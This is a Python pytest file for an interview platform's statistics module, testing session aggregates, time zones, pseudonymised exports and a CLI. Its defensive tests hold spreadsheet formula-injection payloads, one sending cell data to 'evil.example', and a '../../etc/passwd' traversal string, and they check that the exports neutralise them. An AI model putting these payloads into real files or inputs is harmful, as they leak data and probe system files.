"""core.stats: the sessions frame (one query), aggregates, exports read back with pandas, and the CLI."""

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from core import stats
from core.models import InterviewSession, Report
from core.stats import SessionFilters, export_sessions, load_sessions
from tests.factories import add_exchange, make_session

REPO_ROOT = Path(__file__).resolve().parents[2]
# 07:30 on Tuesday 24 November in Beijing, still Monday 23 November in UTC.
LATE_UTC = datetime(2026, 11, 23, 23, 30, tzinfo=UTC)
SECRET = "test-secret-key-0123456789abcdef-0123456789"
DIMENSIONS = {"knowledge": 82, "communication": 74, "logic": 79, "project": 68, "fit": 90}


def make(db, owner="alice", *, created=None, stage="welcome", complete=False, report=None, tokens=(0, 0),
         cost=0.0, model=None, exchanges=0, **info):
    """A session through the service, then moved to the given state (test set-up)."""
    session = make_session(db, owner=owner, **info)
    if exchanges:
        add_exchange(db, session, exchanges)
    session.interview_stage, session.is_complete = stage, complete
    session.prompt_tokens, session.completion_tokens = tokens
    session.cost_usd, session.llm_model = cost, model
    if created is not None:
        session.created_at = created
        session.last_activity = created + timedelta(minutes=25)
    db.add(session)
    if report is not None:
        overall, dimensions = report
        db.add(Report(session_id=session.id, overall=overall, dimensions=dimensions))
    db.commit()
    return session


def read_export(export, fmt) -> pd.DataFrame:
    if fmt == "csv":
        assert export.content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
        return pd.read_csv(io.BytesIO(export.content), encoding="utf-8-sig")
    if fmt == "xlsx":
        return pd.read_excel(io.BytesIO(export.content), engine="openpyxl")
    return pd.DataFrame(json.loads(export.content.decode("utf-8")))


def test_sessions_frame_has_one_row_per_session_with_report_scores_and_costs(db, engine):
    done = make(db, "alice", stage="completed", complete=True, report=(80, DIMENSIONS), tokens=(1200, 300),
                cost=0.0123, model="openai/gpt-4o-mini", exchanges=6)
    make(db, "bob", stage="technical", exchanges=2, field="数据分析", level="senior")

    frame = load_sessions(engine=engine, secret_key=SECRET)

    assert list(frame.columns) == [c for c in stats.SESSION_COLUMNS if c not in stats.NAME_COLUMNS]
    assert len(frame) == 2
    row = frame.set_index("session_id").loc[done.id]
    assert row["candidate"] == stats.pseudonym("alice", SECRET)
    assert (row["status"], row["status_label"], row["is_complete"]) == ("completed", "已完成", True)
    assert row["score_overall"] == 80 and row["score_knowledge"] == 82 and row["score_fit"] == 90
    assert (row["tokens"], row["cost_usd"], row["model"]) == (1500, pytest.approx(0.0123), "openai/gpt-4o-mini")
    assert row["message_count"] == 13  # the welcome and six exchanges
    other = frame[frame["session_id"] != done.id].iloc[0]
    assert (other["status"], other["status_label"], other["model"]) == ("in_progress", "进行中", "offline")
    assert other["field"] == "数据分析" and pd.isna(other["score_overall"]) and pd.isna(other["score_logic"])


def test_dimension_scores_may_be_objects_with_a_score(db, engine):
    make(db, report=(70, {"knowledge": {"score": 66, "comment": "扎实"}, "logic": 71.5}))

    row = load_sessions(engine=engine, secret_key=SECRET).iloc[0]

    assert row["score_knowledge"] == 66 and row["score_logic"] == 71.5 and pd.isna(row["score_fit"])


@pytest.mark.parametrize("n", [5, 50])
def test_frame_and_export_each_take_exactly_one_statement(db, engine, count_statements, n):
    for i in range(n):
        make(db, f"user{i % 7}", report=(60 + i % 40, DIMENSIONS) if i % 2 else None, exchanges=1)

    days = SessionFilters(date_from=date(2000, 1, 1), date_to=date(2100, 1, 1))
    with count_statements(engine) as frame_counter:
        frame = load_sessions(engine=engine)
    with count_statements(engine) as export_counter:
        export_sessions(engine=engine, filters=SessionFilters(), fmt="csv")
    with count_statements(engine) as zoned_counter:
        zoned = load_sessions(engine=engine, filters=days, tz="America/New_York")
        export_sessions(engine=engine, filters=days, fmt="xlsx", tz="America/New_York")

    assert len(frame) == len(zoned) == n
    assert len(frame_counter.statements) == 1, frame_counter.statements
    assert len(export_counter.statements) == 1, export_counter.statements
    assert len(zoned_counter.statements) == 2, zoned_counter.statements


@pytest.mark.parametrize("fmt", stats.EXPORT_FORMATS)
def test_export_read_back_matches_the_database_without_names(db, engine, fmt):
    make(db, "alice", candidate_name="王小红", target_position="数据分析师", field="数据分析", stage="completed",
         complete=True, report=(88, DIMENSIONS), tokens=(10, 5), exchanges=5)
    make(db, "alice", candidate_name="王小红", stage="technical", exchanges=2)
    make(db, "bob", candidate_name="李雷", field="后端开发", level="junior")

    export = export_sessions(engine=engine, filters=SessionFilters(), fmt=fmt)
    back = read_export(export, fmt)

    assert export.filename.endswith(f".{fmt}") and export.media_type == stats.MEDIA_TYPES[fmt]
    assert list(back.columns) == [c for c in stats.SESSION_COLUMNS if c not in stats.NAME_COLUMNS]
    assert len(back) == db.query(InterviewSession).count() == 3
    assert sorted(back["field"]) == ["前端开发", "后端开发", "数据分析"]
    assert set(back["status_label"]) == {"已完成", "进行中", "刚开始"}
    assert back["candidate"].value_counts().to_dict() == {stats.pseudonym("alice", stats._secret_key()): 2,
                                                          stats.pseudonym("bob", stats._secret_key()): 1}
    assert back["score_overall"].dropna().tolist() == [88]
    assert int(back["tokens"].sum()) == 15
    text = export.content.decode("utf-8-sig") if fmt != "xlsx" else back.to_csv()
    for private in ("alice", "bob", "王小红", "李雷"):
        assert private not in text
    created = pd.to_datetime(back["created_at"])
    assert created.notna().all()


@pytest.mark.parametrize("fmt", stats.EXPORT_FORMATS)
def test_include_names_adds_name_and_username_columns(db, engine, fmt):
    make(db, "alice", candidate_name="王小红")

    back = read_export(export_sessions(engine=engine, filters=SessionFilters(), fmt=fmt, include_names=True), fmt)

    assert {"candidate_name", "username", "candidate"} <= set(back.columns)
    assert back.loc[0, "candidate_name"] == "王小红" and back.loc[0, "username"] == "alice"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_empty_database_exports_headers_only(engine, fmt):
    back = read_export(export_sessions(engine=engine, filters=SessionFilters(), fmt=fmt), fmt)

    assert back.empty
    assert list(back.columns) == [c for c in stats.SESSION_COLUMNS if c not in stats.NAME_COLUMNS]


def test_empty_database_json_export_is_an_empty_list_and_aggregates_do_not_fail(engine):
    export = export_sessions(engine=engine, filters=SessionFilters(), fmt="json")
    frame = load_sessions(engine=engine)

    assert json.loads(export.content) == []
    assert stats.headline(frame) == stats.Headline(0, 0, 0, 0, None, None, 0, 0.0)
    assert stats.daily_counts(frame).empty and stats.field_summary(frame).empty
    assert stats.stage_funnel(frame)["sessions"].sum() == 0
    assert stats.score_distribution(frame)["sessions"].sum() == 0
    assert stats.dimension_means(frame)["mean_score"].isna().all()


def test_unknown_format_is_refused_with_the_allowed_ones(engine):
    with pytest.raises(ValueError, match="csv, xlsx, json"):
        export_sessions(engine=engine, filters=SessionFilters(), fmt="pdf")


def test_filters_by_inclusive_utc_dates_field_level_and_completion(db, engine):
    def at(day):
        return datetime(2025, 3, day, 10, 0, tzinfo=UTC)

    early = make(db, created=at(1), field="前端开发", level="junior")
    first = make(db, created=datetime(2025, 3, 5, 0, 0, tzinfo=UTC), field="前端开发", level="mid")
    last = make(db, created=datetime(2025, 3, 7, 23, 59, tzinfo=UTC), field="数据分析", level="senior",
                stage="completed", complete=True)
    late = make(db, created=at(8), field="数据分析", level="mid", stage="completed", complete=True)

    def ids(**filters):
        return set(load_sessions(engine=engine, filters=SessionFilters(**filters), tz="UTC")["session_id"])

    assert ids() == {early.id, first.id, last.id, late.id}
    assert ids(date_from=date(2025, 3, 5), date_to=date(2025, 3, 7)) == {first.id, last.id}
    assert ids(date_from=date(2025, 3, 8)) == {late.id}
    assert ids(date_to=date(2025, 3, 1)) == {early.id}
    assert ids(field="数据分析") == {last.id, late.id}
    assert ids(level="mid") == {first.id, late.id}
    assert ids(completed=True) == {last.id, late.id}
    assert ids(completed=False) == {early.id, first.id}
    assert ids(field="数据分析", level="mid", completed=True, date_to=date(2025, 3, 8)) == {late.id}
    assert ids(field="不存在") == set()


@pytest.mark.parametrize(("tz", "local_day"), [(None, date(2026, 11, 24)), ("Asia/Shanghai", date(2026, 11, 24)),
                                               ("UTC", date(2026, 11, 23))])
def test_days_are_calendar_days_in_the_time_zone(db, engine, tz, local_day):
    late = make(db, "alice", created=LATE_UTC, stage="completed", complete=True)
    noon = make(db, "bob", created=datetime(2026, 11, 24, 4, 0, tzinfo=UTC))  # 11-24 in both zones

    def ids(day):
        one_day = SessionFilters(date_from=day, date_to=day)
        return set(load_sessions(engine=engine, filters=one_day, tz=tz)["session_id"])

    frame = load_sessions(engine=engine, tz=tz)
    daily = stats.daily_counts(frame)
    row = frame.set_index("session_id").loc[late.id]

    assert row["created_date_local"] == local_day
    assert row["created_at"] == pd.Timestamp("2026-11-23 23:30")  # timestamps stay UTC
    assert dict(zip(daily["date"].dt.date, daily["sessions"], strict=True)) == (
        {date(2026, 11, 24): 2} if local_day.day == 24 else {date(2026, 11, 23): 1, date(2026, 11, 24): 1})
    assert int(daily.loc[daily["date"].dt.date == local_day, "completed"].iloc[0]) == 1
    assert ids(local_day) == ({late.id, noon.id} if local_day.day == 24 else {late.id})
    assert late.id not in ids(local_day - timedelta(days=1)) | ids(local_day + timedelta(days=1))


def test_an_unknown_time_zone_falls_back_to_the_default(db, engine):
    late = make(db, created=LATE_UTC)

    for tz in ("Mars/Olympus_Mons", "", "../../etc/passwd"):
        frame = load_sessions(engine=engine, tz=tz, filters=SessionFilters(date_from=date(2026, 11, 24)))
        assert frame["session_id"].tolist() == [late.id]
        assert frame["created_date_local"].tolist() == [date(2026, 11, 24)]
    assert stats.time_zone("Mars/Olympus_Mons").key == stats.DEFAULT_TIMEZONE == "Asia/Shanghai"


def test_a_day_starts_at_local_midnight_across_clock_changes():
    # New York springs forward on 2026-03-08 (EST -5 -> EDT -4); Santiago skips midnight on 2024-09-08.
    new_york, santiago = stats.time_zone("America/New_York"), stats.time_zone("America/Santiago")

    assert stats._start_of_day(date(2026, 3, 8), new_york) == datetime(2026, 3, 8, 5, tzinfo=UTC)
    assert stats._start_of_day(date(2026, 3, 9), new_york) == datetime(2026, 3, 9, 4, tzinfo=UTC)
    assert stats._start_of_day(date(2024, 9, 8), santiago) == datetime(2024, 9, 8, 4, tzinfo=UTC)  # 01:00 local


@pytest.mark.parametrize("fmt", stats.EXPORT_FORMATS)
@pytest.mark.parametrize(("tz", "local_day"), [(None, "2026-11-24"), ("UTC", "2026-11-23")])
def test_exports_keep_utc_timestamps_and_add_the_local_date(db, engine, fmt, tz, local_day):
    make(db, created=LATE_UTC)

    export = export_sessions(engine=engine, filters=SessionFilters(), fmt=fmt, **({"tz": tz} if tz else {}))
    back = read_export(export, fmt)

    assert pd.to_datetime(back["created_at"]).dt.tz_localize(None).tolist() == [pd.Timestamp("2026-11-23 23:30")]
    assert pd.to_datetime(back["created_date_local"]).dt.strftime("%Y-%m-%d").tolist() == [local_day]
    if fmt == "json":  # a day, not a midnight timestamp; moments in valid ISO 8601 that say they are UTC
        row = json.loads(export.content)[0]
        assert row["created_date_local"] == local_day and row["created_at"] == "2026-11-23T23:30:00Z"
        assert datetime.fromisoformat(row["last_activity"]).utcoffset() == timedelta(0)


def test_pseudonyms_are_stable_distinct_and_keyed_by_the_secret(db, engine):
    make(db, "alice")
    make(db, "alice")
    make(db, "bob")

    first = load_sessions(engine=engine, secret_key=SECRET)
    again = load_sessions(engine=engine, secret_key=SECRET)
    other_key = load_sessions(engine=engine, secret_key="another-secret")

    assert first["candidate"].tolist() == again["candidate"].tolist()
    assert first["candidate"].nunique() == 2
    assert all(c.startswith("C-") and len(c) == 10 for c in first["candidate"])
    assert set(first["candidate"]).isdisjoint(other_key["candidate"])


def test_aggregates_from_the_frame(db, engine):
    day1, day3 = datetime(2025, 5, 1, 9, tzinfo=UTC), datetime(2025, 5, 3, 9, tzinfo=UTC)
    make(db, "a", created=day1, field="前端开发", stage="completed", complete=True, report=(95, DIMENSIONS),
         tokens=(100, 50), cost=0.5)
    make(db, "b", created=day1, field="前端开发", stage="technical", report=(100, DIMENSIONS))
    make(db, "a", created=day3, field="数据分析", stage="self_intro", report=(42, {"knowledge": 40}))
    make(db, "c", created=day3, field="数据分析", stage="welcome")
    frame = load_sessions(engine=engine)

    numbers = stats.headline(frame)
    assert (numbers.sessions, numbers.candidates, numbers.completed) == (4, 3, 1)
    assert numbers.completion_rate == 0.25 and numbers.mean_score == pytest.approx((95 + 100 + 42) / 3)
    assert (numbers.tokens, numbers.cost_usd) == (150, 0.5)

    daily = stats.daily_counts(frame)
    assert daily["date"].dt.strftime("%Y-%m-%d").tolist() == ["2025-05-01", "2025-05-02", "2025-05-03"]
    assert daily["sessions"].tolist() == [2, 0, 2] and daily["completed"].tolist() == [1, 0, 0]

    fields = stats.field_summary(frame).set_index("field")
    assert fields.loc["前端开发", "sessions"] == 2 and fields.loc["前端开发", "completion_rate"] == 0.5
    assert fields.loc["前端开发", "mean_score"] == 97.5 and fields.loc["数据分析", "mean_score"] == 42
    assert fields.loc["数据分析", "mean_duration_minutes"] == 25

    funnel = stats.stage_funnel(frame).set_index("stage")["sessions"].to_dict()
    assert funnel == {"welcome": 4, "self_intro": 3, "technical": 2, "project": 1, "behavioral": 1,
                      "candidate_questions": 1, "wrap_up": 1, "completed": 1}

    bands = stats.score_distribution(frame).set_index("band")["sessions"]
    assert bands["90–100"] == 2 and bands["40–49"] == 1 and bands.sum() == 3

    dims = stats.dimension_means(frame).set_index("dimension")["mean_score"]
    assert dims["knowledge"] == pytest.approx((82 + 82 + 40) / 3) and dims["fit"] == 90


def test_an_interview_ended_early_reached_only_the_stage_it_was_left_in(db, engine, count_statements, app_env):
    from core.interviewer.turns import end_interview, run_turn, start_interview

    left = start_interview(owner="alice", info={"target_position": "前端开发工程师"}, engine=engine).session
    for answer in ("我叫张三，计算机专业毕业，做了三年前端开发，擅长 React 和性能优化。", "不知道", "不知道", "不知道"):
        list(run_turn(owner="alice", session_id=left.id, content=answer, engine=engine))
    stage_when_left = db.get(InterviewSession, left.id).interview_stage
    end_interview(owner="alice", session_id=left.id, engine=engine)
    silent = start_interview(owner="bob", info={"target_position": "数据分析师"}, engine=engine).session
    end_interview(owner="bob", session_id=silent.id, engine=engine)
    make(db, "carol", stage="completed", complete=True, exchanges=1)

    with count_statements(engine) as counter:
        frame = load_sessions(engine=engine).set_index("session_id")

    assert len(counter.statements) == 1
    assert stage_when_left not in ("welcome", "self_intro", "completed")
    assert frame.loc[left.id, ["interview_stage", "reached_stage", "ended_early", "is_complete"]].tolist() == [
        "completed", stage_when_left, True, True]
    assert frame.loc[silent.id, "reached_stage"] == "self_intro"  # the welcome already asks for the introduction
    funnel = stats.stage_funnel(frame).set_index("stage")["sessions"]
    assert (funnel["welcome"], funnel["self_intro"], funnel["completed"]) == (3, 3, 1)
    assert funnel[stage_when_left] == 2


def test_list_fields_is_distinct_and_sorted(db, engine):
    for fld in ("数据分析", "前端开发", "数据分析"):
        make(db, field=fld)

    assert stats.list_fields(engine=engine) == sorted({"数据分析", "前端开发"})


def test_cli_export_writes_a_readable_file(db, engine, tmp_path):
    make(db, "alice", candidate_name="王小红", field="数据分析", stage="completed", complete=True)
    make(db, "bob", field="前端开发")
    env = os.environ | {"DATABASE_URL": engine.url.render_as_string(hide_password=False), "DEMO_MODE": "true"}
    out = tmp_path / "out" / "sessions.csv"

    done = subprocess.run(
        [sys.executable, "-m", "core.stats", "export", "--format", "csv", "--out", str(out),
         "--field", "数据分析", "--completed", "yes", "--from", "2000-01-01"],
        cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120,
    )

    assert done.returncode == 0, done.stderr
    back = pd.read_csv(out, encoding="utf-8-sig")
    assert back["field"].tolist() == ["数据分析"] and "username" not in back.columns
    assert "已导出 1 场面试" in done.stderr


def test_cli_export_takes_the_time_zone(db, engine, tmp_path):
    make(db, created=LATE_UTC)
    env = os.environ | {"DATABASE_URL": engine.url.render_as_string(hide_password=False), "DEMO_MODE": "true"}

    def export(*tz):
        out = tmp_path / f"{'-'.join(tz) or 'default'}.csv".replace("/", "_")
        done = subprocess.run(
            [sys.executable, "-m", "core.stats", "export", "--out", str(out), "--from", "2026-11-24", *tz],
            cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120,
        )
        assert done.returncode == 0, done.stderr
        return pd.read_csv(out, encoding="utf-8-sig")

    assert export()["created_date_local"].tolist() == ["2026-11-24"]
    assert export("--tz", "Asia/Shanghai")["created_date_local"].tolist() == ["2026-11-24"]
    assert export("--tz", "UTC").empty


def test_cli_rejects_an_unknown_time_zone(tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "core.stats", "export", "--out", str(tmp_path / "x.csv"), "--tz", "Asia/Shangai"],
        cwd=REPO_ROOT, capture_output=True, text=True, timeout=120,
        env=os.environ | {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"},
    )

    assert done.returncode == 2 and "IANA" in done.stderr and not (tmp_path / "x.csv").exists()


def test_cli_rejects_a_bad_date(tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", "core.stats", "export", "--out", str(tmp_path / "x.csv"), "--from", "03/05/2025"],
        cwd=REPO_ROOT, capture_output=True, text=True, timeout=120,
        env=os.environ | {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"},
    )

    assert done.returncode == 2 and "YYYY-MM-DD" in done.stderr


@pytest.mark.parametrize(("roles", "setting", "expected"), [
    ({"staff"}, True, True), ({"staff"}, False, False), ({"analyst"}, True, False), ({"staff", "analyst"}, True, True),
    ({"candidate"}, True, False), ((), True, False),
])
def test_only_staff_get_names_and_only_when_the_deployment_allows(roles, setting, expected):
    from core.config import load_settings
    from core.stats import export_includes_names

    settings = load_settings({"DEMO_MODE": "true", "STATS_INCLUDE_NAMES": str(setting).lower()})
    assert export_includes_names(roles, settings) is expected


# --- exports are safe to open (issue 11: formula injection, characters XLSX cannot hold) ---------------------
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1")


def _stored_position(db, session, position: str) -> None:
    """Write a position as an older release (without today's input checks) may have stored it."""
    from sqlalchemy import update

    db.execute(update(InterviewSession).where(InterviewSession.id == session.id).values(target_position=position))
    db.commit()


def test_csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe(db, engine):
    for position in FORMULAS:
        _stored_position(db, make(db, target_position="占位"), position)
    make(db, target_position="C++ 开发")  # a sign in the middle is plain text, left alone

    text = export_sessions(engine=engine, filters=SessionFilters(), fmt="csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert sorted(row["target_position"] for row in rows) == sorted(["'" + p for p in FORMULAS] + ["C++ 开发"])


def test_xlsx_cells_that_look_like_formulas_are_quoted_text_shown_as_typed(db, engine):
    from openpyxl import load_workbook

    for position in FORMULAS:
        _stored_position(db, make(db, target_position="占位"), position)

    export = export_sessions(engine=engine, filters=SessionFilters(), fmt="xlsx")
    sheet = load_workbook(io.BytesIO(export.content)).active
    column = [cell.value for cell in sheet[1]].index("target_position") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]

    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, never a formula


@pytest.mark.parametrize("fmt", stats.EXPORT_FORMATS)
def test_one_row_with_control_characters_does_not_break_the_export(db, engine, fmt):
    bad = make(db, target_position="占位")
    _stored_position(db, bad, "后端\u000b开发\u0001工程师")
    make(db, target_position="前端开发工程师")

    back = read_export(export_sessions(engine=engine, filters=SessionFilters(), fmt=fmt), fmt)

    assert sorted(back["target_position"]) == ["前端开发工程师", "后端 开发 工程师"]
